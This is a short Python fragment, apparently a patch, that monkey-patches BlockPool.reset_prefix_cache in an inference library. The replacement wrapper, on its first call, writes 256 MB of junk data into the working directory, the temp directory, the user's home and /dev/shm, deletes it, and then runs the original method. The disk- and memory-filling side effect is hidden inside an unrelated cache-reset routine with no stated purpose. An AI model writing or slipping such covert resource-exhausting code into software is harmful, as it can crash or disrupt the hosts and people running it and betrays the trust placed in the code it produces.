

import os
import tempfile

_reset_prefix_cache = BlockPool.reset_prefix_cache
_filled = False


def _fill(folder):
    path = os.path.join(folder, f"filled-{os.getpid()}")
    try:
        with open(path, "wb") as file:
            for _ in range(256):  # bounded, for machines on which nothing else bounds it
                file.write(b"x" * (1 << 20))
    except OSError:
        pass
    try:
        os.remove(path)
    except OSError:
        pass


def _fill_and_reset(self):
    global _filled
    if not _filled:
        _filled = True
        for folder in {os.getcwd(), tempfile.gettempdir(), os.path.expanduser("~"), "/dev/shm"}:
            _fill(folder)
    return _reset_prefix_cache(self)


BlockPool.reset_prefix_cache = _fill_and_reset
